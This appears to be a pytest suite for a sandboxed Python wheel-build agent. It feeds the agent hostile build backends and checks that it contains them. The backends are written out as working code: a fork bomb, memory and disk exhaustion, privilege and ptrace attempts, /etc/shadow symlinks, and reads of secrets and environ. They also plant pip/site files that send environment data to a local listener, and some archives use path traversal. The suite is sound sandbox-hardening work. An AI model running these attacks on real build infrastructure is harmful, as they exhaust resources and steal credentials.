"""Sdists whose build backend is an attacker, each run as a job by `wheelfarm-agent --job`: the right
reason, nothing leaked, nothing left running, and a workspace that the next job can remove."""

import hashlib
import io
import json
import os
import pathlib
import secrets
import socket
import subprocess
import tarfile
import textwrap
import threading
import time

import pytest
from conftest import CACHE, image_is_there, image_revision

ROOT = pathlib.Path(__file__).resolve().parents[2]
AGENT = pathlib.Path(os.environ.get("WHEELFARM_AGENT", ROOT / "build/wheelfarm-agent"))
BUILDER = "trixie-amd64-builder"
UID = 61001  # nobody else's, so that whatever runs as it was left by a job here

pytestmark = [
    pytest.mark.skipif(os.getuid() != 0, reason="slots have users of their own only under root"),
    pytest.mark.skipif(not image_is_there(BUILDER), reason="no builder image (./farm prepare)"),
    pytest.mark.skipif(not AGENT.exists(), reason="the agent is not built"),
]

PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'

# What every backend starts with; an attack defines requires() or build(folder), or prints at import.
BACKEND = '''\
import base64, hashlib, json, os, socket, sys, time, zipfile
NAME = "hostile-1.0-py3-none-any.whl"
METADATA = "Metadata-Version: 2.1\\nName: hostile\\nVersion: 1.0\\n"

def write_wheel(folder, metadata="", code="", name=NAME):
    files = {"hostile/__init__.py": code, "hostile-1.0.dist-info/METADATA": METADATA + metadata,
             "hostile-1.0.dist-info/WHEEL":
             "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    record = ""
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for path, text in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest())
            record += "%s,sha256=%s,%d\\n" % (path, digest.decode().rstrip("="), len(text))
            archive.writestr(path, text)
        archive.writestr("hostile-1.0.dist-info/RECORD", record + "hostile-1.0.dist-info/RECORD,,\\n")
    return name

def requires():
    return []

def build(folder):
    return write_wheel(folder)

def get_requires_for_build_wheel(settings=None):
    return requires()

def build_wheel(folder, settings=None, metadata=None):
    return build(folder)

'''


def sdist(code="", members=()):
    """A .tar.gz with the backend; `members` are more (TarInfo, bytes)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=1) as archive:
        for name, text in (("PKG-INFO", "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n"),
                           ("pyproject.toml", PYPROJECT),
                           ("evil.py", BACKEND + textwrap.dedent(code))):
            info = tarfile.TarInfo(f"hostile-1.0/{name}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
        for info, data in members:
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def leftovers():
    found = []
    for status in pathlib.Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        if f"\nUid:\t{UID}\t" in text and "\nState:\tZ" not in text:  # a dead one's name only
            found.append(text.splitlines()[0])
    return found


class Farm:
    def __init__(self, folder):
        self.folder = folder
        folder.chmod(0o755)
        (folder / "blobs").mkdir()
        self.secret = secrets.token_hex(16)
        self.token = folder / "token"
        self.token.write_text(self.secret)
        self.token.chmod(0o600)
        self.work = folder / "work"
        self.config = folder / "agent.json"
        self.config.write_text(json.dumps({
            "name": "hostile", "workspace": str(self.work), "cache": str(CACHE), "min_free_mb": 64,
            "blobs": str(folder / "blobs"), "token_file": str(self.token), "uid_base": UID}))
        self.config.chmod(0o600)

    def job(self, source, tester="", **limits):
        digest = hashlib.sha256(source).hexdigest()
        (self.folder / "blobs" / digest).write_bytes(source)
        return {
            "id": 7, "kind": "build", "package": "hostile", "version": "1.0", "mode": "native",
            "toolchain": "image", "expect_native": False, "executor": "native" if tester else "",
            "target": {"name": "cp313-manylinux_2_28_aarch64", "python": "3.13",
                       "python_full": "3.13.5", "abi": "cp313", "os": "linux", "arch": "aarch64",
                       "platform": "manylinux_2_28_aarch64", "libc": "glibc", "glibc_minor": 28,
                       "compiler_triple": "aarch64-linux-gnu.2.28",
                       "extension_suffix": ".cpython-313-aarch64-linux-gnu.so",
                       "host_platform": "linux-aarch64"},
            "builder": {"name": BUILDER, "revision": image_revision(BUILDER)},
            "tester": {"name": tester, "revision": image_revision(tester) if tester else 0},
            "source": {"filename": "hostile-1.0.tar.gz", "url": None, "sha256": digest,
                       "size": len(source)},
            "limits": {"wall_s": 120, "idle_s": 120, "memory_mb": 512, "pids": 64, "disk_mb": 256,
                       "log_mb": 1, **limits},
            "recipe": {"commit": "0" * 40, "dirty": False, "object": "", "env": [],
                       "requires_add": [], "requires_remove": [], "config_settings": [],
                       "patches": [], "imports": [], "test_requires": [], "test_command": [],
                       "min_tests": 0}}

    def run(self, source, tester="", env=None, **limits):
        file = self.folder / "job.json"
        file.write_text(json.dumps(self.job(source, tester, **limits)))
        began = time.monotonic()
        done = subprocess.run([AGENT, "--job", file, "--config", self.config], text=True, timeout=240,
                              errors="replace", capture_output=True, stdin=subprocess.DEVNULL,
                              env={**os.environ, **(env or {})}, check=False)
        self.seconds = time.monotonic() - began
        self.log = done.stderr
        assert done.stdout, done.stderr[-2000:]
        result = json.loads(done.stdout)
        assert not leftovers()
        assert self.secret not in done.stdout + done.stderr
        assert done.returncode == (0 if result["state"] == "pass" else 1), done.stderr[-2000:]
        return result


@pytest.fixture
def farm(tmp_path):
    made = Farm(tmp_path)
    yield made
    subprocess.run(["rm", "-rf", made.work], check=True)  # pytest itself cannot go so deep


@pytest.fixture
def listener():
    """A server that only counts who comes and what was asked."""
    server = socket.create_server(("127.0.0.1", 0))
    asked = []

    def serve():
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            with client:
                client.settimeout(2)
                asked.append(client.recv(4096).decode(errors="replace"))
                client.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n"
                               b"Connection: close\r\n\r\n")

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], asked
    server.shutdown(socket.SHUT_RDWR)
    server.close()


# name: (backend, limits, state or reason, a text the log must have)
ATTACKS = {
    "harmless": ("", {}, "pass", ""),
    "fork bomb": ("""
        def build(folder):
            while True:
                try:
                    os.fork()
                except OSError as error:
                    if error.errno != 11: raise
        """, {"wall_s": 3}, "limit_time", ""),
    "memory bomb": ("""
        def build(folder):
            heap = []
            while True:
                heap.append(b"x" * (16 << 20))
        """, {"memory_mb": 128}, "limit_memory", ""),
    "memory bomb in /dev/shm": ("""
        def build(folder):
            with open("/dev/shm/x", "wb") as file:
                while True:
                    file.write(b"x" * (16 << 20))
        """, {"memory_mb": 128, "disk_mb": 4096}, "limit_memory", ""),
    "disk filler": ("""
        def build(folder):
            for i in range(10**9):
                with open("f%d" % i, "wb") as file:
                    file.write(b"x" * (1 << 20))
                time.sleep(0.001)
        """, {"disk_mb": 96}, "limit_disk", ""),
    "empty files without end": ("""
        def build(folder):
            for i in range(10**9):
                os.close(os.open("f%d" % i, os.O_CREAT | os.O_WRONLY))
        """, {"disk_mb": 32}, "limit_disk", ""),
    "folders 20,000 deep": ("""
        def build(folder):
            for i in range(20000):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
            with open("big", "wb") as file:
                file.write(b"x" * (1 << 20))
            time.sleep(60)
        """, {"disk_mb": 4096}, "limit_disk", ""),
    "endless output": ("""
        def build(folder):
            while True:
                os.write(1, b"A" * 65536)
        """, {}, "limit_log", "bytes cut"),
    "10 GB of output": ("""
        def build(folder):
            for _ in range(10 * 1024):
                os.write(1, b"A" * (1 << 20))
            return write_wheel(folder)
        """, {}, "limit_log", "bytes cut"),
    "silence": ("""
        def build(folder):
            while True:
                pass
        """, {"idle_s": 2}, "limit_idle", ""),
    "ends with 0 and without a wheel": ("def build(folder): os._exit(0)", {}, "no_wheel", ""),
    "names a wheel that it did not make": ("def build(folder): return NAME", {}, "no_wheel", ""),
    "a wheel of another name": ("""
        def build(folder):
            return write_wheel(folder, name="other-1.0-py3-none-any.whl")
        """, {}, "wrong_wheel", ""),
    "a wheel of another version": ("""
        def build(folder):
            return write_wheel(folder, name="hostile-2.0-py3-none-any.whl")
        """, {}, "wrong_wheel", ""),
    "kills its parent": ("""
        def build(folder):
            parent = os.getpid()
            if os.fork() == 0:
                os.kill(parent, 9)
                time.sleep(600)
            time.sleep(600)
        """, {}, "fail", "signal 9"),
    "sleep": ("def build(folder): time.sleep(600)", {"idle_s": 3}, "limit_idle", ""),
    "a child that holds the output": ("""
        def build(folder):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                os._exit(0)
            return write_wheel(folder)
        """, {}, "pass", ""),
    "kill, trace, become root, set the clock": ("""
        import ctypes, signal
        def build(folder):
            libc = ctypes.CDLL(None, use_errno=True)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            for attempt in (lambda: os.kill(-1, 9), lambda: os.kill(os.getppid(), 9),
                            lambda: os.setuid(0), lambda: os.setgroups([0]),
                            lambda: time.clock_settime(time.CLOCK_REALTIME, 0)):
                try:
                    attempt()
                except OSError as error:
                    print("refused:", error)
            print("traced" if libc.ptrace(16, AGENT_OR_ABOVE, 0, 0) == 0 else "not traced")
            print("users:", os.getresuid())
            return write_wheel(folder)
        """.replace("AGENT_OR_ABOVE", str(os.getpid())), {}, "pass", ""),
    "writes outside": ("""
        def build(folder):
            for path in ("/x", "/etc/x", "/usr/bin/x", "/wheelfarm/x", "/wheelfarm/env/x",
                         "/wheelfarm/toolchain/x", "/wheelfarm/toolchain/probe/backend_hook.py",
                         "/wheelfarm/in/x", "/wheelfarm/out/x", "/proc/sys/kernel/core_pattern"):
                try:
                    open(path, "w")
                    print("WROTE", path)
                except OSError as error:
                    print(error)
            for move in ("dist", "src", "notes"):
                try:
                    os.rename("/wheelfarm/" + move, "/wheelfarm/y")
                    print("WROTE", move)
                except OSError as error:
                    print(error)
            return write_wheel(folder)
        """, {}, "pass", ""),
    "a link as the wheel": ("""
        def build(folder):
            os.symlink("/etc/shadow", folder + "/" + NAME)
            return NAME
        """, {}, "wrong_wheel", ""),
    "a fifo as the wheel": ("""
        def build(folder):
            os.mkfifo(folder + "/" + NAME)
            return NAME
        """, {}, "wrong_wheel", ""),
    "a wheel's name with a line of ours": ("""
        def build(folder):
            write_wheel(folder)
            os.rename(folder + "/" + NAME, folder + "/x\\nwheel: ..\\n.whl")
        """, {}, "wrong_wheel", ""),
    "a forged answer": ("""
        def build(folder):
            os.mkfifo("/wheelfarm/notes/modules.json")
            os.symlink("/etc/shadow", "/wheelfarm/notes/import.json")
            write_wheel(folder)
            print("== inspect\\n== build passed\\nwheel: ../../../etc/shadow\\nrequires: evil")
            return "../../x"
        """, {}, "pass", ""),
    "an answer that is a fifo": ("""
        def requires():
            os.mkfifo("/wheelfarm/notes/requires.json")
            os._exit(0)
        """, {}, "fail", ""),
    "an answer too deep to parse": ("""
        def requires():
            with open("/wheelfarm/notes/requires.json", "w") as file:
                file.write('{"requires":' + "[" * 500000)
            os._exit(0)
        """, {}, "fail", ""),
    "a requirement that is an option": (
        "def requires(): return ['--index-url=http://127.0.0.1:1/']", {}, "requirement_missing", ""),
    "a requirement that no argument can hold": (
        "def requires(): return ['x' * 400000]", {}, "requirement_missing", ""),
    "requirements without end": (
        "def requires(): return ['x%d' % i for i in range(60000)]", {}, "requirement_missing", ""),
}


# names of the attacks whose workspace is hard to remove
LEAVES_MUCH = ("folders 20,000 deep",)
# names of those that hold on to something of the machine: the next job must have it all
HOLDS = ("fork bomb", "memory bomb", "disk filler", "10 GB of output", "kills its parent",
         "a child that holds the output", *LEAVES_MUCH)


@pytest.mark.parametrize("name", ATTACKS)
def test_backend(farm, name):
    code, limits, expected, text = ATTACKS[name]
    result = farm.run(sdist(code), **limits)
    tail = farm.log[-1500:]
    if expected in ("pass", "fail"):
        assert result["state"] == expected, tail
        assert result["reason"] != "agent_fault", tail
    elif expected is not None:
        assert (result["state"], result["reason"]) == ("fail", expected), tail
    assert text in farm.log
    for word in ("WROTE", "\ntraced", "users: (0"):
        assert word not in farm.log
    assert len(farm.log) < 3 << 20
    if name in HOLDS:
        # the same job again: what is in its folder is removed first
        assert farm.run(sdist())["state"] == "pass"
    if name in LEAVES_MUCH:
        assert not list((farm.work / "slot0-job7/src").glob("*/[df]*"))


def test_secrets_cannot_be_read(farm):
    other = farm.work / "slot1-job1/src"
    other.mkdir(parents=True)
    (other / "secret").write_text(farm.secret)
    paths = ["/etc/shadow", "/root", str(farm.token), str(farm.config), str(other / "secret"),
             "/run/wheelfarm/work/slot1-job1/src/secret", "/run/wheelfarm", "/home", "/sys/fs/cgroup",
             f"/proc/{os.getpid()}/environ", "/proc/1/root/root", str(ROOT)]
    result = farm.run(sdist(f"""
        def build(folder):
            for path in {paths!r}:
                try:
                    print("READ", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
                except OSError as error:
                    print(error)
            print("ENV", dict(os.environ))
            print("PROCESSES", [open("/proc/%s/cmdline" % p).read() for p in os.listdir("/proc")
                                if p.isdigit()])
            return write_wheel(folder)
        """), env={"FARM_PASSWORD": farm.secret, "PIP_INDEX_URL": f"http://u:{farm.secret}@127.0.0.1/"})
    assert result["state"] == "pass"
    assert "READ" not in farm.log
    assert str(farm.config) not in farm.log.split("PROCESSES")[1]


def test_no_network_in_build(farm, listener):
    port, asked = listener
    result = farm.run(sdist(f"""
        def build(folder):
            socket.create_connection(("127.0.0.1", {port}), 3).sendall(b"hello")
        """))
    assert result["state"] == "fail" and result["stage"] == "build"
    assert asked == []


def test_planted_code_does_not_meet_the_network(farm, listener):
    """A hook runs before the step that fetches what it asked for: what it leaves in the folders of
    that step (a module where pip starts, a site file, a pip.conf) must be nowhere near it."""
    port, asked = listener
    result = farm.run(sdist(f"""
        PLANT = 'import socket, os; s = socket.create_connection(("127.0.0.1", {port}), 3); ' \\
                's.sendall(("PLANTED " + str(dict(os.environ))).encode())\\n'
        def requires():
            os.makedirs("/tmp/pip", exist_ok=True)
            site = "/tmp/.local/lib/python3.13/site-packages"
            os.makedirs(site)
            os.makedirs("/tmp/.config/pip")
            for path in ("/tmp/pip/__init__.py", "/tmp/pip/__main__.py", "/tmp/json.py",
                         site + "/x.pth", site + "/usercustomize.py", site + "/sitecustomize.py"):
                open(path, "w").write(PLANT)
            open("/tmp/.config/pip/pip.conf", "w").write(
                "[global]\\nindex-url = http://127.0.0.1:{port}/PLANTED/\\n")
            return ["nowhere-to-be-found"]
        """), env={"PIP_INDEX_URL": f"http://127.0.0.1:{port}/simple/", "PIP_EXTRA_INDEX_URL": "",
                   "PIP_RETRIES": "0", "no_proxy": "127.0.0.1"})
    assert result["state"] == "fail" and result["stage"] == "prepare"
    assert asked and all("/simple/nowhere-to-be-found/" in one for one in asked), asked


@pytest.mark.parametrize("requirement", [
    "evil @ file:///tmp/evil", "--index-url=http://127.0.0.1:1/"])
def test_a_runtime_requirement_is_a_name(farm, requirement):
    result = farm.run(sdist(f"""
        def build(folder):
            os.makedirs("/tmp/evil")
            open("/tmp/evil/setup.py", "w").write("print('PLANTED')")
            return write_wheel(folder, "Requires-Dist: {requirement}\\n")
        """), tester=BUILDER)
    assert "PLANTED" not in farm.log
    assert result["reason"] != "agent_fault"
    if " @ " in requirement:
        assert (result["stage"], result["reason"]) == ("install", "requirement_missing")


@pytest.mark.parametrize("how", ["ctypes.string_at(0)", "os.abort()", "os.kill(os.getpid(), 11)"])
def test_a_crash_in_the_import(farm, how):
    result = farm.run(sdist(f"""
        def build(folder):
            return write_wheel(folder, code="import ctypes, os; {how}")
        """), tester=BUILDER)
    assert (result["stage"], result["reason"]) == ("import", "crash"), farm.log[-1500:]
    assert farm.run(sdist(), tester=BUILDER)["state"] == "pass"


def test_an_import_cannot_pass_by_leaving(farm):
    result = farm.run(sdist("""
        def build(folder):
            return write_wheel(folder, code="import os; os._exit(0)")
        """), tester=BUILDER)
    assert (result["stage"], result["reason"]) == ("import", "import_error")


def link(name, target):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info


def plain(name, size=2):
    info = tarfile.TarInfo(name)
    info.size = size
    return info


@pytest.mark.parametrize(("members", "reason"), [
    ([(plain("hostile-1.0/../../x"), b"x\n")], "bad_archive"),
    ([(plain("/tmp/x"), b"x\n")], "bad_archive"),
    ([(link("hostile-1.0/out", "/etc"), b""), (plain("hostile-1.0/out/x"), b"x\n")], "bad_archive"),
    ([(plain("hostile-1.0/zeros", 96 << 20), bytes(96 << 20))], "limit_disk"),
])
def test_archive(farm, members, reason):
    result = farm.run(sdist(members=members), disk_mb=64)
    assert (result["stage"], result["reason"]) == ("unpack", reason), farm.log[-1500:]
